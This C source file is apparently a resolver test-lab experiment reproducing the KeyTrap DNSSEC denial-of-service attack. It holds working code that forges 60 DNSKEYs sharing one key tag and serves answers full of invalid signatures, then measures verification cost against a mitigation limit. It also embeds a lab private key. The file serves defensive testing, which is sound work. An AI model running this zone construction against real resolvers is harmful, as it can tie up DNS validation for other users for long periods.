/* keytrap: signatures that take long to refuse (Heftrig, Schulmann, Vogel, Waidner, 2024).
 *
 * A key tag is a checksum of 16 bits, and keys may share one.  RFC 4035 says: if a signature
 * does not verify with one key of its tag, try the next; if the set has other signatures, try
 * those.  The attacker's zone has 60 keys of one tag and an answer with 16 signatures of that
 * tag, none of which is valid.  Trying all costs 960 verifications, for one query.  With larger
 * numbers a single packet kept some resolvers busy for hours. */
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "dns/rrsig.h"
#include "tools/lab/experiment.h"

enum {
    TRAP_QUERIES = 5,
    TRAP_KEYS = 60,
    TRAP_SIGNATURES = 16,
    TRAP_MODULUS_LEN = 256,
    TRAP_KEY_LEN = 4 + 4 + TRAP_MODULUS_LEN, /* octets of the RDATA of a DNSKEY */
    TRAP_TAG = 4711,
    TRAP_TTL = 3600,
    TRAP_DAY_S = 86400,
    TRAP_WAIT_MS = 15000,
};

static const char trap_zone[] = "trap.attacker32.com";

/* The zone's true key, whose DS is in attacker32.com. */
static const char trap_private[] = "Private-key-format: v1.3\n"
                                   "Algorithm: 13 (ECDSAP256SHA256)\n"
                                   "PrivateKey: o2TRQ0//MJtwyM87XjCWabEZrOUhPMzfzFRoPVnOB9U=\n";

/* Lifetime: the run. */
static struct {
    struct signkey *key;
    uint8_t own[4 + SIGNKEY_PUBLIC_MAX]; /* RDATA of the true DNSKEY */
    uint16_t own_len;
    uint8_t keys[TRAP_KEYS][TRAP_KEY_LEN];
    uint8_t signature[600]; /* RDATA of the RRSIG of the DNSKEY records */
    size_t signature_len;
} trap;

/* ---- the zone ---- */

/* Make an RSA key of random numbers with the tag: two octets make up for the others. */
static void make_trap_key(struct trial *t, uint8_t key[TRAP_KEY_LEN])
{
    static const uint8_t head[] = {1, 0, DNSKEY_PROTOCOL, DNSKEY_RSASHA256, 3, 1, 0, 1};
    uint8_t *word = key + sizeof(head) + 100;

    memcpy(key, head, sizeof(head));
    for (size_t i = sizeof(head); i < TRAP_KEY_LEN; i++)
        key[i] = (uint8_t)rng_u16(&t->rng);
    key[sizeof(head)] |= 0x80;
    key[TRAP_KEY_LEN - 1] |= 1;
    util_put_u16(word, 0);
    uint16_t filler = (uint16_t)(TRAP_TAG - dnskey_read(key, TRAP_KEY_LEN).tag - 2);
    do /* a carry makes the sum one larger */
        util_put_u16(word, filler++);
    while (dnskey_read(key, TRAP_KEY_LEN).tag != TRAP_TAG);
}

static int compare_trap_keys(const void *a, const void *b)
{
    return memcmp(a, b, TRAP_KEY_LEN);
}

static struct rrsig describe_trap_signature(uint16_t type, uint16_t tag, const uint8_t *signer)
{
    const uint32_t now_s = (uint32_t)time(NULL);
    return (struct rrsig){.covered = type,
                          .original_ttl = TRAP_TTL,
                          .inception = now_s - TRAP_DAY_S,
                          .expiration = now_s + TRAP_DAY_S,
                          .tag = tag,
                          .signer = signer};
}

/* Sign all keys with the true one, so that the resolver has to trust them. */
static void sign_trap_keys(void)
{
    struct rrsig_rdata set[TRAP_KEYS + 1];
    uint8_t zone[DNAME_MAX];

    trial_name(trap_zone, zone);
    const struct rrsig fields =
        describe_trap_signature(RRTYPE_DNSKEY, dnskey_read(trap.own, trap.own_len).tag, zone);
    for (size_t i = 0; i < TRAP_KEYS; i++)
        set[i] = (struct rrsig_rdata){trap.keys[i], TRAP_KEY_LEN};
    set[TRAP_KEYS] =
        (struct rrsig_rdata){trap.own, trap.own_len}; /* its flags are the largest */
    trap.signature_len = rrsig_len(trap.key, zone);
    must(trap.signature_len <= sizeof(trap.signature));
    must(rrsig_sign(&fields, trap.key, zone, set, TRAP_KEYS + 1, trap.signature) == ERR_OK);
}

static void make_trap_zone(struct trial *t)
{
    static const uint8_t head[] = {1, 1, DNSKEY_PROTOCOL, DNSKEY_ECDSAP256};
    struct fault fault;

    must(signkey_read(trap_private, strlen(trap_private), &trap.key, &fault) == ERR_OK);
    memcpy(trap.own, head, sizeof(head));
    trap.own_len = (uint16_t)(sizeof(head) + signkey_public(trap.key, trap.own + sizeof(head)));
    for (size_t i = 0; i < TRAP_KEYS; i++)
        make_trap_key(t, trap.keys[i]);
    qsort(trap.keys, TRAP_KEYS, TRAP_KEY_LEN, compare_trap_keys); /* RFC 4034 6.3 */
    sign_trap_keys();
}

/* ---- its server ---- */

/* An RRSIG of random octets, with the tag of the false keys. */
static void add_false_signature(struct trial *t, struct trial_message *reply, const char *name)
{
    uint8_t zone[DNAME_MAX], rdata[18 + DNAME_MAX + TRAP_MODULUS_LEN];

    trial_name(trap_zone, zone);
    const struct rrsig s = describe_trap_signature(RRTYPE_A, TRAP_TAG, zone);
    const size_t zone_len = dname_len(zone);
    util_put_u16(rdata, s.covered);
    rdata[2] = DNSKEY_RSASHA256;
    rdata[3] = 4; /* labels of www0.trap.attacker32.com */
    util_put_u32(rdata + 4, s.original_ttl);
    util_put_u32(rdata + 8, s.expiration);
    util_put_u32(rdata + 12, s.inception);
    util_put_u16(rdata + 16, s.tag);
    memcpy(rdata + 18, zone, zone_len);
    for (size_t i = 0; i < TRAP_MODULUS_LEN; i++)
        rdata[18 + zone_len + i] = (uint8_t)rng_u16(&t->rng);
    rdata[18 + zone_len] &= 0x7f; /* less than any modulus: else it costs nothing to refuse */
    trial_record(reply, MESSAGE_ANSWER, name, RRTYPE_RRSIG, TRAP_TTL, rdata,
                 18 + zone_len + TRAP_MODULUS_LEN);
}

static void answer_trap(struct trial *t, const struct message *query,
                        struct trial_message *reply)
{
    char name[DNAME_TEXT_MAX];

    trial_print_qname(query, name);
    if (query->qtype == RRTYPE_DNSKEY) {
        for (size_t i = 0; i < TRAP_KEYS; i++)
            trial_record(reply, MESSAGE_ANSWER, name, RRTYPE_DNSKEY, TRAP_TTL, trap.keys[i],
                         TRAP_KEY_LEN);
        trial_record(reply, MESSAGE_ANSWER, name, RRTYPE_DNSKEY, TRAP_TTL, trap.own,
                     trap.own_len);
        trial_record(reply, MESSAGE_ANSWER, name, RRTYPE_RRSIG, TRAP_TTL, trap.signature,
                     trap.signature_len);
    } else if (query->qtype == RRTYPE_A && strncmp(name, "www", 3) == 0) {
        trial_record_a(reply, MESSAGE_ANSWER, name, TRAP_TTL, "192.0.2.66");
        for (size_t i = 0; i < TRAP_SIGNATURES; i++)
            add_false_signature(t, reply, name);
    }
}

static void run_keytrap(struct trial *t)
{
    const struct addr at = trial_second("attacker", 53);
    int udp = trial_open(t, "attacker", &at, SOCK_DGRAM),
        tcp = trial_open(t, "attacker", &at, SOCK_STREAM);
    unsigned failures = 0;
    char name[80];

    make_trap_zone(t);
    const int64_t before = trial_counter(t, "signatures-verified");
    for (unsigned i = 0; i < TRAP_QUERIES; i++) {
        snprintf(name, sizeof(name), "www%u.%s", i, trap_zone);
        int client = trial_ask_begin(t, "bob", name, RRTYPE_A);
        trial_serve_both(t, udp, tcp, client, TRAP_WAIT_MS, answer_trap);
        failures += trial_ask_end(client, TRAP_WAIT_MS).rcode == RRTYPE_RCODE_SERVFAIL;
        trial_tell(t, "%s: %lld signatures verified so far", name,
                   (long long)trial_counter(t, "signatures-verified"));
    }
    close(udp);
    close(tcp);
    signkey_free(&trap.key);
    const double each =
        (double)(trial_counter(t, "signatures-verified") - before) / TRAP_QUERIES;
    trial_number(t, "attack-queries", TRAP_QUERIES);
    trial_number(t, "servfails", failures);
    trial_number(t, "keys-of-one-tag", TRAP_KEYS);
    trial_number(t, "signatures-of-an-answer", TRAP_SIGNATURES);
    trial_real(t, "verifications-per-query", each);
    trial_end(t, each > 100, "each query cost %.1f verifications", each);
}

const struct experiment experiment_keytrap = {
    .name = "keytrap",
    .what = "a zone has many keys of one tag, and answers with many false signatures (KeyTrap)",
    .without = "validation-work",
    .needs_validation = true,
    .stopped = "a query has 16 verifications, of which 2 may fail, and at most 4 keys of a tag "
               "are tried; then the answer is SERVFAIL",
    .counters = {"signatures-verified", "bogus-replies"},
    .run = run_keytrap,
};
